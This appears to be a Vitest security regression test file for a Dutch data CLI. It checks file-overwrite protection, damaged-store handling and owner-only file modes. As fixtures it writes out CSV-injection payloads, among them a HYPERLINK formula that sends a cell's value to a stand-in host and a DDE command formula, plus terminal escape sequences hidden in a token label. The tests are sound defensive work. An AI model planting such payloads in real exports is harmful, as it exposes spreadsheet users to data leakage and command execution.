import { chmod, copyFile, readFile, stat, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ObservationStore, createToken, ingestFile, listTokens, loadModelFile } from '../../src/index.js';
import { rendement } from '../cli/run-cli.js';
import { modelsDir, tempDir } from '../server/fixtures.js';

let dir: string;
let cleanup: () => Promise<void>;
let storePath: string;
let uploadsBefore = 0;

// Cells that spreadsheets run as formulas (OWASP "CSV Injection"): =, +, -, @ at the start of a text cell.
const formulas = ['=HYPERLINK("http://x.example/?d="&A1;"klik")', "=cmd|'/c calc'!A1", '+cmd', '-1+1', '@SUM(A1:A2)'];

beforeAll(async () => {
  ({ dir, storePath, cleanup } = await tempDir('rendement-sec-cli-'));
  const model = await loadModelFile(join(modelsDir, 'buurthuis-moerwijk.yaml'));
  if (!model.ok) throw new Error('fixture model invalid');
  const csv = [
    'indicator;gebied;periode;waarde;bron',
    ...formulas.map((f, i) => `bezoekers-65plus;WK051836;2025-01-0${i + 1};${i + 1};"${f.replace(/"/g, '""')}"`),
    'bezoekers-65plus;WK051836;2025-01-09;3;gewone bron',
  ].join('\n');
  await writeFile(join(dir, 'formulas.csv'), `${csv}\n`);
  const store = await ObservationStore.open(storePath);
  try {
    const r = await ingestFile(store, join(dir, 'formulas.csv'), { initiative: 'buurthuis-moerwijk', model: model.model });
    if (!r.ok) throw new Error(JSON.stringify(r.issues.slice(0, 3)));
    await createToken(store, { role: 'evaluator', label: 'evil\u001b[2J\u001b]0;pwned\u0007\rlabel\u009b31m', createdBy: 'test' });
    uploadsBefore = (await store.listUploads()).length;
  } finally {
    store.close();
  }
});

afterAll(async () => cleanup());

async function storeIntact(): Promise<void> {
  const store = await ObservationStore.open(storePath);
  try {
    expect((await store.listUploads()).length).toBe(uploadsBefore);
    expect((await listTokens(store)).length).toBe(1);
  } finally {
    store.close();
  }
}

describe('writes never target the store or an existing file that is not an earlier output (issue 15)', () => {
  it('data export --out <the store> is refused (exit 1), also with --force, and the store keeps uploads and tokens', async () => {
    // Issue 15: `data export --out data/rendement.duckdb` wrote a CSV over the store and printed ✓ (exit 0).
    for (const extra of [[], ['--force']]) {
      const r = rendement(['data', 'export', '--out', storePath, '--store', storePath, ...extra]);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stderr).toMatch(/opslag|store/);
      await storeIntact();
    }
  });

  it('data export over any DuckDB file (another store) is refused, also with --force', async () => {
    const other = join(dir, 'other.duckdb');
    await copyFile(storePath, other);
    const r = rendement(['data', 'export', '--out', other, '--store', storePath, '--force']);
    expect(r.code, r.stderr).toBe(1);
    expect((await readFile(other)).subarray(8, 12).toString()).toBe('DUCK');
  });

  it('data export over an existing file that is not an earlier export needs --force', async () => {
    const notes = join(dir, 'notes.csv');
    await writeFile(notes, 'my own notes, not an export\n');
    const r = rendement(['data', 'export', '--out', notes, '--store', storePath, '--lang', 'en']);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/--force/);
    expect(await readFile(notes, 'utf8')).toBe('my own notes, not an export\n');
    const forced = rendement(['data', 'export', '--out', notes, '--store', storePath, '--force']);
    expect(forced.code, forced.stderr).toBe(0);
    expect(await readFile(notes, 'utf8')).toMatch(/^initiative,indicator/);
    // An earlier export is an output of this command: overwritten without --force.
    const again = rendement(['data', 'export', '--out', notes, '--store', storePath]);
    expect(again.code, again.stderr).toBe(0);
    const pq = join(dir, 'export.parquet');
    for (let i = 0; i < 2; i++) expect(rendement(['data', 'export', '--out', pq, '--store', storePath]).code).toBe(0);
  });
});

describe('other commands that write files (issue 15)', () => {
  it('schema --out over an existing file that is not a schema needs --force; over a store never', async () => {
    const notes = join(dir, 'notes.json');
    await writeFile(notes, '{"mine": true}\n');
    const r = rendement(['schema', '--out', notes]);
    expect(r.code, r.stderr).toBe(1);
    expect(await readFile(notes, 'utf8')).toBe('{"mine": true}\n');
    expect(rendement(['schema', '--out', notes, '--force']).code).toBe(0);
    expect(rendement(['schema', '--out', notes]).code).toBe(0); // now an earlier schema
    const copy = join(dir, 'schema-over-store.duckdb');
    await copyFile(storePath, copy);
    expect(rendement(['schema', '--out', copy, '--force']).code).toBe(1);
    expect((await readFile(copy)).subarray(8, 12).toString()).toBe('DUCK');
  });

  it('init --out <a store> --force is refused and the store is kept', async () => {
    const copy = join(dir, 'init-over-store.duckdb');
    await copyFile(storePath, copy);
    const r = rendement(['init', '--id', 'x-y', '--name', 'X', '--municipality', 'GM0518', '--method', 'sroi', '--price-year', '2024', '--start', '2024-01-01', '--end', '2026-12-31', '--out', copy, '--force']);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/DuckDB/);
    expect((await readFile(copy)).subarray(8, 12).toString()).toBe('DUCK');
  });
});

describe('CSV export neutralises formula cells (OWASP CSV injection; issue 15)', () => {
  const exportCsv = async (extra: string[]) => {
    const out = join(dir, `export-${extra.length}.csv`);
    const r = rendement(['data', 'export', '--out', out, '--store', storePath, '--force', ...extra]);
    expect(r.code, r.stderr).toBe(0);
    return readFile(out, 'utf8');
  };

  it('=, +, -, @ at the start of a text cell get a leading apostrophe; other cells unchanged', async () => {
    // Issue 15: `data export` wrote =HYPERLINK(…), =cmd|'/c calc'!A1, +cmd, -1+1 and @SUM unchanged into CSV.
    const text = await exportCsv([]);
    for (const f of formulas) {
      const quoted = `'${f}`;
      expect(text.includes(quoted) || text.includes(`"${quoted.replace(/"/g, '""')}"`), f).toBe(true);
    }
    expect(text).not.toMatch(/(^|,)"?[=+@]/m);
    expect(text).toMatch(/,3\.0,/);
    expect(text).toContain(',gewone bron,');
  });

  it('--raw keeps the cells exactly as stored', async () => {
    const text = await exportCsv(['--raw']);
    expect(text).toContain(',+cmd,');
    expect(text).toContain(',-1+1,');
  });
});

describe('--store must be a DuckDB file or a new file (issue 15)', () => {
  it('ingest --store <an existing CSV> is refused (exit 1) and the CSV is unchanged', async () => {
    // Issue 15: `ingest` said "28 waarnemingen opgeslagen" but nothing was kept.
    const csv = join(dir, 'data.csv');
    await writeFile(csv, 'a;b\n1;2\n');
    const r = rendement(['ingest', join(dir, 'formulas.csv'), '--initiative', 'buurthuis-moerwijk', '--model', join(modelsDir, 'buurthuis-moerwijk.yaml'), '--store', csv]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stdout).not.toMatch(/opgeslagen/);
    expect(r.stderr).toMatch(/DuckDB/);
    expect(await readFile(csv, 'utf8')).toBe('a;b\n1;2\n');
  });

  it('tokens create --store <an existing JSON file> prints no token', async () => {
    const json = join(dir, 'x.json');
    await writeFile(json, '{"a":1}\n');
    const r = rendement(['tokens', 'create', '--role', 'evaluator', '--store', json]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stdout).not.toMatch(/rdm_/);
  });

  it('a new --store named .csv, .json or .parquet is refused: it would look like data, not a store', async () => {
    for (const name of ['new.csv', 'new.json', 'new.parquet']) {
      const r = rendement(['tokens', 'create', '--role', 'evaluator', '--store', join(dir, name)]);
      expect(r.code, `${name}: ${r.stderr}`).toBe(1);
      expect(r.stdout).not.toMatch(/rdm_/);
    }
  });
});

describe('damaged stores (issue 15)', () => {
  it('a store with garbage after its header: exit 1 with a plain NL/EN message, not exit 3 with DuckDB text', async () => {
    const bad = join(dir, 'damaged.duckdb');
    const head = (await readFile(storePath)).subarray(0, 12288);
    await writeFile(bad, Buffer.concat([head, Buffer.alloc(200_000, 0x5a)]));
    for (const lang of ['nl', 'en']) {
      const r = rendement(['data', 'list', '--store', bad, '--lang', lang]);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stderr).toMatch(lang === 'nl' ? /beschadigd/ : /damaged/);
      expect(r.stderr).not.toMatch(/IO Error|checksum/);
    }
  });

  it('a truncated store: exit 1 with the damaged-store message', async () => {
    const cut = join(dir, 'truncated.duckdb');
    await copyFile(storePath, cut);
    await truncate(cut, 100_000);
    const r = rendement(['data', 'list', '--store', cut, '--lang', 'en']);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/damaged/);
  });
});

describe('terminal output and file modes (issue 15)', () => {
  it('tokens list prints no control characters (ESC, BEL, CR, C1) from a label', async () => {
    const r = rendement(['tokens', 'list', '--store', storePath]);
    expect(r.code, r.stderr).toBe(0);
    // eslint-disable-next-line no-control-regex
    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(r.stdout).toMatch(/evil.*label/);
  });

  it('a new store file is created readable by its owner only (0600)', async () => {
    const fresh = join(dir, 'fresh', 'rendement.duckdb');
    const store = await ObservationStore.open(fresh);
    store.close();
    expect((await stat(fresh)).mode & 0o777).toBe(0o600);
  });

  it('an existing store that others can read is tightened to 0600 when opened', async () => {
    await chmod(storePath, 0o644);
    (await ObservationStore.open(storePath)).close();
    expect((await stat(storePath)).mode & 0o777).toBe(0o600);
  });
});
